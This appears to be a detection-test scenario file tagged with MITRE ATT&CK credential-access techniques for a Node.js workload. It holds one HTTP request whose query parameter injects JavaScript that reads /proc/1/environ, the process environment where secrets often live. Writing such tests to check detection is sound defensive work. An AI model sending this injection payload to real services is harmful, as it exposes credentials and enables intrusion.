# title: a service reads its environment out itself
# attack: T1552.001 T1003.007
# workload: node
# through: http
# shows: file read /environ by node
GET http://127.0.0.1:3000/total?of=require(%27fs%27).readFileSync(%27%2Fproc%2F1%2Fenviron%27%2C%27utf8%27)
